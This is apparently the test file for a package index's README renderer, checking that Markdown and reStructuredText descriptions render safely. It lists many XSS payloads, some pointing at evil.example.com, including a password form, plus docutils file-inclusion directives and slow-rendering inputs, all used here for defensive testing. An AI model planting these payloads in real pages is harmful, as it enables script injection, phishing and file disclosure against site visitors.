"""A description is shown as its author meant it, and can do nothing to the page around it."""

import gc
import io
import sys
import threading
import time
from contextlib import redirect_stderr
from html.parser import HTMLParser
from importlib.metadata import distributions
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from wheelyard.pypi.description import describe
from wheelyard.web.pages.packages import readme
from wheelyard.web.pages.packages.readme import MAX_HTML_BYTES, PREFIX, Readme

MARKDOWN, RST, PLAIN = "text/markdown", "text/x-rst", "text/plain"

TAGS = set(
    "a abbr acronym b blockquote br caption cite code col colgroup dd del details div dl dt em "  # noqa: SIM905  a list of words
    "figcaption figure h3 h4 h5 h6 hr i kbd li ol p pre section span strong sub summary sup table "
    "tbody td th thead tr tt ul var".split()
)
ATTRIBUTES = {"href", "id", "rel", "title", "class", "align", "colspan", "rowspan", "start"}
REL = "nofollow noopener noreferrer"


class Reader(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")


def read(text: str, content_type: str = MARKDOWN) -> Reader:
    """Render, and hold the result to what no description may break."""
    shown = readme.render(text, content_type)
    assert len(shown.html.encode()) <= MAX_HTML_BYTES
    reader = Reader(shown.html)
    for tag, attributes in reader.elements:
        assert tag in TAGS
        require_harmless(tag, attributes)
    return reader


def require_harmless(tag: str, attributes: dict[str, str | None]) -> None:
    """Hold one element to it."""
    allowed = ATTRIBUTES | ({"tabindex"} if tag == "pre" else set())
    assert attributes.keys() <= allowed
    if tag == "a":
        assert attributes["rel"] == REL
    href = attributes.get("href")
    if href is not None:
        assert tag == "a"
        assert href.startswith(("http://", "https://", "mailto:", f"#{PREFIX}"))
    assert (attributes.get("id") or PREFIX).startswith(PREFIX)
    assert all(len(name) < 4 for name in (attributes.get("class") or "").split())
    assert attributes.get("tabindex", "0") == "0"


# What it is for ----------------------------------------------------------------------------------


def test_markdown_is_rendered() -> None:
    text = "# Title\n\nSome *words* and `code`.\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n"

    assert readme.render(text, "text/markdown; charset=UTF-8; variant=GFM") == Readme(
        '<h3 id="readme-title">Title</h3>\n'
        "<p>Some <em>words</em> and <code>code</code>.</p>\n"
        "<table>\n<thead>\n<tr>\n<th>a</th>\n"
        '<th align="right">b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n'
        '<td align="right">2</td>\n</tr>\n</tbody>\n</table>\n',
        is_cut=False,
    )


@pytest.mark.parametrize("content_type", [RST, ""])
def test_restructured_text_is_rendered(content_type: str) -> None:
    text = "Title\n=====\n\nSome *words* and ``code``, `here <https://example.com>`_.\n"

    shown = readme.render(text, content_type)

    assert '<section id="readme-title">\n<h3>Title</h3>' in shown.html
    assert "<em>words</em>" in shown.html
    assert f'<a href="https://example.com" rel="{REL}">here</a>' in shown.html


@pytest.mark.parametrize("content_type", [PLAIN, "text/html", "application/x-unknown"])
def test_any_other_text_is_shown_as_it_is(content_type: str) -> None:
    shown = readme.render('# <b>"Title"</b> &amp;\n', content_type)

    assert shown.html == (
        '<pre tabindex="0"># &lt;b&gt;&quot;Title&quot;&lt;/b&gt; &amp;amp;\n</pre>'
    )


@pytest.mark.parametrize("content_type", [MARKDOWN, RST, PLAIN, ""])
@pytest.mark.parametrize("text", ["", " \n\n"])
def test_no_text_is_nothing(content_type: str, text: str) -> None:
    assert readme.render(text, content_type) == Readme("", is_cut=False)


def test_what_is_not_what_it_was_said_to_be_is_plain() -> None:
    text = "Title\n==\n\n`unclosed *x\n\n.. nothing-like-this::\n"

    assert readme.render(text, RST).html.startswith('<pre tabindex="0">Title\n==\n')


def test_code_is_highlighted_and_can_be_reached_by_keyboard() -> None:
    for text, kind in [
        ("```python\ndef f(): pass\n```", MARKDOWN),
        (".. code:: python\n\n   def f(): pass\n", RST),
    ]:
        html = readme.render(text, kind).html
        assert '<pre tabindex="0">' in html
        assert '<span class="k">def</span>' in html


def test_headings_stand_below_those_of_the_page() -> None:
    levels = "\n\n".join(f"{'#' * level} Level {level}" for level in range(1, 7))

    tags = [tag for tag, _ in read(levels).elements if tag.startswith("h")]

    assert tags == ["h3", "h4", "h5", "h6", "h6", "h6"]


def test_links_within_lead_to_ids_within() -> None:
    for text, kind in [
        ("[go](#how-to)\n\n# How to\n\nNote[^1]\n\n[^1]: here", MARKDOWN),
        ("`How to`_ [#]_\n\nHow to\n======\n\n.. [#] here\n", RST),
        ('<a href="#x">go</a> <b id="x">here</b>', MARKDOWN),
    ]:
        elements = read(text, kind).elements
        ids = {f"#{values['id']}" for _, values in elements if "id" in values}
        targets = {str(values["href"]) for tag, values in elements if tag == "a"}
        assert targets
        assert targets <= ids


def test_images_become_links_and_nothing_is_loaded() -> None:
    reader = read(
        "![Build](https://example.com/a.svg) ![](https://example.com/b/c.png?x) "
        "[![Docs](https://example.com/d.svg)](https://example.com/docs) ![Logo](logo.png) "
        "![](data:image/png;base64,AA)"
    )

    assert [values["href"] for tag, values in reader.elements if tag == "a"] == [
        "https://example.com/a.svg",
        "https://example.com/b/c.png?x",
        "https://example.com/docs",
    ]
    assert reader.text.split() == ["Build", "c.png", "Docs", "Logo"]


def test_links_into_the_authors_repository_lead_nowhere() -> None:
    reader = read("[a](docs/a.md) [b](/-/admin) [c](//example.com/x) [d](?x)")

    assert [values.get("href") for tag, values in reader.elements if tag == "a"] == [None] * 4


def test_boxes_of_a_task_list_are_signs() -> None:
    assert read("- [ ] open\n- [x] done").text.split() == ["\u2610", "open", "\u2611", "done"]


def test_every_installed_description_is_rendered() -> None:
    rendered = 0
    for distribution in distributions():
        described = describe((distribution.read_text("METADATA") or "").encode())
        shown = readme.render(described.text, described.content_type)
        read(described.text, described.content_type)
        if described.content_type in (MARKDOWN, RST) and described.text.strip():
            assert not shown.html.startswith("<pre"), distribution.name
            rendered += 1
    assert rendered > 30


# Attacks -----------------------------------------------------------------------------------------

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example.com/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<img src=javascript:alert(1)>",
    "<img srcset='https://evil.example.com/x 1x'>",
    "<picture><source srcset=https://evil.example.com/x><img src=x></picture>",
    "<b onmouseover=alert(1)>x</b>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=JaVaScRiPt:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x6A&#x61vascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=https://example.com target=_blank ping=https://evil.example.com>x</a>",
    "<a href=https://example.com rel=opener>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '![x](https://example.com/"onerror="alert(1))',
    '![x" onerror="alert(1)](x)',
    '[x](https://example.com "a\\" onclick=\\"alert(1)")',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<style>*{display:none}</style>",
    "<style>@import 'https://evil.example.com/x.css';</style>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example.com)'>x</p>",
    "<link rel=stylesheet href=https://evil.example.com/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example.com'>",
    "<base href=https://evil.example.com/>",
    "<form action=https://evil.example.com><input name=password><button>x</button></form>",
    "<input type=image src=https://evil.example.com/x>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select><option>x</select>",
    "<iframe src=https://evil.example.com></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example.com/x.swf></object>",
    "<embed src=https://evil.example.com/x.swf>",
    "<applet code=x></applet>",
    "<video src=https://evil.example.com/x autoplay></video>",
    "<audio src=x onerror=alert(1)>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<body onload=alert(1)>",
    "<html><head><title>x</title></head></html>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>x",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- x --!><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=1.0?><img src=x onerror=alert(1)>",
    "<!DOCTYPE html>",
    "</div></div></main></body></html><script>alert(1)</script>",
    "<div id=content class='card danger' role=alert aria-label=x tabindex=5>x</div>",
    "<main id=main accesskey=x contenteditable hidden>x</main>",
    "<p id='x' id='y'>",
    "<dialog open>x</dialog><marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<table background=https://evil.example.com><td background=javascript:alert(1)>x",
    "<a\x00 href=javascript:alert(1)>x</a>",
    "<a href=\"https://example.com/'onclick='alert(1)\">x</a>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<span class='k container'>x</span>",
    "<custom-element onclick=alert(1)>x</custom-element><slot name=x></slot>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```x" onclick="alert(1)\nx\n```',
    "`<script>alert(1)</script>`",
    "$`<script>alert(1)</script>`$",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_markdown_does_harm(payload: str) -> None:
    for text in (
        payload,
        f"before {payload} after",
        f"- {payload}\n\n> {payload}",
        f"| {payload} |\n|---|\n| {payload} |",
        f"<div>{payload}",
        f'<b title="{payload}">x</b>',
        f"[{payload}](https://example.com)",
        f"![{payload}](https://example.com/x.png)",
    ):  # fmt: skip
        read(text, MARKDOWN)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_restructured_or_plain_text_does_harm(payload: str) -> None:
    for text in (
        payload,
        f"``{payload}``\n",
        f"Title\n=====\n\n{payload}\n",
        f".. code:: html\n\n   {payload}\n",
        f".. image:: https://example.com/x.png\n   :alt: {payload}\n",
        f"`x <{payload}>`_\n",
    ):
        read(text, RST)
        read(text, PLAIN)
        read(text, "")


@pytest.mark.parametrize(
    "text",
    [
        "`x <javascript:alert(1)>`_",
        "`x <data:text/html,x>`__",
        ".. _x: javascript:alert(1)\n\nx_",
        ".. image:: javascript:alert(1)",
        ".. image:: https://example.com/x.svg\n   :target: javascript:alert(1)",
        ".. image:: https://example.com/x.svg\n   :class: card\n   :width: 9999px",
        ".. figure:: https://example.com/x.png\n\n   caption",
        ".. class:: card\n\nx",
        ".. container:: card\n\n   x",
        ".. _content:\n\nx",
        ".. meta::\n   :http-equiv=refresh: 0;url=https://evil.example.com",
        ".. math::\n\n   \\unicode{<script>alert(1)</script>}",
        ":math:`<script>alert(1)</script>`",
        ".. raw:: html\n\n   <script>alert(1)</script>",
        ".. role:: html(raw)\n   :format: html\n\n:html:`<script>alert(1)</script>`",
        ".. role:: x\n   :class: card\n\n:x:`y`",
        ".. title:: x",
        ".. header:: x",
        "|x|\n\n.. |x| image:: javascript:alert(1)",
        ".. parsed-literal::\n\n   `x <javascript:alert(1)>`_",
    ],
)
def test_nothing_of_docutils_does_harm(text: str) -> None:
    read(text, RST)


@pytest.mark.parametrize(
    "text",
    [
        ".. include:: {path}",
        ".. include:: {path}\n   :literal:",
        ".. literalinclude:: {path}",
        ".. raw:: html\n   :file: {path}",
        ".. raw:: html\n   :url: file://{path}",
        ".. csv-table::\n   :file: {path}",
        ".. csv-table::\n   :url: file://{path}",
        ".. code:: text\n   :file: {path}",
        ".. figure:: file://{path}\n   :scale: 50",
        ".. |x| include:: {path}\n\n|x|",
    ],
)
def test_no_file_and_no_address_is_read(tmp_path: Path, text: str) -> None:
    path = tmp_path / "secret.txt"
    path.write_text("the secret,of this machine\n")

    reader = read("Before.\n\n" + text.format(path=path), RST)

    assert "of this machine" not in reader.text


def test_docutils_warns_nobody() -> None:
    stderr = io.StringIO()

    with redirect_stderr(stderr):
        readme.render("Title\n=\n\n.. unknown::\n\n*x `y |z", RST)

    assert stderr.getvalue() == ""


def test_what_one_text_defines_is_unknown_to_the_next() -> None:
    plain = readme.render("A :code:`word` of the second.", RST)
    readme.render(".. role:: code(strong)\n\n.. default-role:: strong\n\n:code:`x` `y`\n", RST)

    after = readme.render("A :code:`word` of the third.", RST)
    by_default = readme.render("A `word` of the fourth.", RST)

    assert "<code>word</code>" in plain.html
    assert "<code>word</code>" in after.html
    assert "<cite>word</cite>" in by_default.html


@given(
    st.text(alphabet="<>/ab=\"'&;:#()[]`*_-|!\n \\.+{}x", max_size=80),
    st.sampled_from([MARKDOWN, RST]),
)
def test_any_text_is_harmless(text: str, content_type: str) -> None:
    read(text, content_type)


@given(st.text(max_size=80), st.text(max_size=30))
def test_any_text_of_any_type_is_shown(text: str, content_type: str) -> None:
    assert readme.render(text, content_type).html or not text.strip() or not content_type


# Bounds ------------------------------------------------------------------------------------------


def lines(unit: str, per_line: int = 900, length: int = 60_000) -> str:
    """The same words again and again, in lines that docutils still reads."""
    return (unit * per_line + "\n") * (length // (len(unit) * per_line + 1))


SLOW_RST = {
    "lists in lists": ("- " * 20 + "x\n\n") * 1400,
    "very deep lists": "- " * 3000 + "x",
    "indentation": "".join(" " * depth + "x\n\n" for depth in range(300)),
    "substitutions": ".. |x| replace:: hi\n\n" + lines("|x| "),
    "substitutions of substitutions": ".. |a0| replace:: words\n"
    + "".join(f".. |a{n}| replace:: |a{n - 1}| |a{n - 1}|\n" for n in range(1, 60))
    + "\n|a59|\n",
    "tables of contents": ".. contents::\n\n" * 100
    + "".join(f"a{n}\n=====\n\n" for n in range(3000)),
    "sections": "".join(f"a{n}\n=====\n\n" for n in range(5000)),
    "references": lines("a_ ") + "\n.. _a: https://example.com\n",
    "a chain of targets": "".join(f".. _a{n}: a{n + 1}_\n" for n in range(3000)),
    "footnotes": lines("[#]_ ") + "\n" + ".. [#] a\n" * 500,
    "a list table": ".. list-table::\n\n" + "   * - a\n" * 6000,
    "a grid": ("+" + "-+" * 90 + "\n|" + " |" * 90 + "\n") * 150 + "+" + "-+" * 90 + "\n",
    "fields": ":a: b\n" * 10_000,
    "code": ".. code:: python\n\n" + "   x = [1, 'a']  # c\n" * 2500,
}  # fmt: skip
SLOW_MARKDOWN = {
    "quotes in quotes": ">" * 60_000,
    "quotes in lists": ">- " * 20_000,
    "reopened elements": "".join(f"<b id={n}>" for n in range(3000)) + "<p>x" * 7000,
    "alike elements": "<b><i><u><s><tt><em>\n" * 3 + "<p>x\n" * 10_000,
    "footnotes": "[^a]" * 15_000 + "\n\n[^a]: x\n",
    "unclosed code": '<pre lang="x"><code>\n' * 2800,
    "brackets": "[" * 60_000,
    "emphasis": "**a*" * 15_000,
    "elements in elements": "<div>\n" * 10_000,
    "wide tables": "|a" * 200 + "\n" + "|-" * 200 + "\n" + "|\n" * 20_000,
    "code": "```python\n" + "x = [1, 'a']  # c\n" * 3000 + "```",
}
SLOW = [(text, RST) for text in SLOW_RST.values()] + [
    (text, MARKDOWN) for text in SLOW_MARKDOWN.values()
]


@pytest.mark.parametrize(("text", "content_type"), SLOW, ids=[*SLOW_RST, *SLOW_MARKDOWN])
def test_no_text_takes_long(text: str, content_type: str) -> None:
    began = time.process_time()

    read(text, content_type)

    assert time.process_time() - began < 5


@pytest.mark.parametrize("content_type", [MARKDOWN, RST, PLAIN])
def test_a_long_text_is_cut_at_a_paragraph_and_says_so(content_type: str) -> None:
    text = "\n\n".join(f"Paragraph {number} has these words." for number in range(5000))

    shown = readme.render(text, content_type)

    assert shown.is_cut
    assert 15_000 < len(shown.html) <= MAX_HTML_BYTES
    assert Reader(shown.html).text.strip().endswith("has these words.")


def test_links_whose_targets_are_cut_off_still_lead_there() -> None:
    for text, kind in [
        (
            "[here]\n\n"
            + "Many words in a row.\n\n" * 4000
            + "[here]: https://example.com/there\n",
            MARKDOWN,
        ),
        (
            "here_\n\n"
            + "Many words in a row.\n\n" * 4000
            + ".. _here: https://example.com/there\n",
            RST,
        ),
    ]:
        shown = readme.render(text, kind)
        assert shown.is_cut
        assert 'href="https://example.com/there"' in shown.html


@pytest.mark.parametrize("text", ["&" * 90_000, '"' * 90_000, "\U0001f600" * 90_000])
@pytest.mark.parametrize("content_type", [MARKDOWN, RST, PLAIN])
def test_what_grows_by_escaping_is_cut_as_well(text: str, content_type: str) -> None:
    shown = readme.render(text, content_type)

    assert shown.is_cut
    assert 5000 < len(shown.html.encode()) <= MAX_HTML_BYTES


def test_a_profiler_that_watches_is_left_in_place() -> None:
    def watch(*_: object) -> None:
        pass

    sys.setprofile(watch)
    try:
        readme.render("Text of a profiled reader", RST)
        assert sys.getprofile() is watch
    finally:
        sys.setprofile(None)


def test_many_readers_at_once_see_the_same() -> None:
    texts = [f"Title {number}\n=========\n\n:code:`{number}`\n" for number in range(8)]
    seen: list[str] = [""] * len(texts)

    def look(number: int) -> None:
        seen[number] = readme.render(texts[number], RST).html

    threads = [threading.Thread(target=look, args=(number,)) for number in range(len(texts))]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()

    assert [f"<code>{number}</code>" in html for number, html in enumerate(seen)] == [True] * 8


def test_a_limit_that_is_reached_while_something_is_finalized_still_holds() -> None:
    """An exception in there is ignored, and with it the profiler that raised it is gone."""
    left = [2_000_000]

    def spend(*_: object) -> None:
        while sys.getprofile() is not None and left[0] > 0:
            left[0] -= len(str(left[0])[:1])

    before = gc.get_threshold()
    gc.callbacks.append(spend)
    gc.set_threshold(50)
    try:
        shown = readme.render("Short, and *sound*, but for what ran meanwhile.\n", RST)
    finally:
        gc.set_threshold(*before)
        gc.callbacks.remove(spend)

    assert left[0] < 1_000_000
    assert shown.html.startswith("<pre")
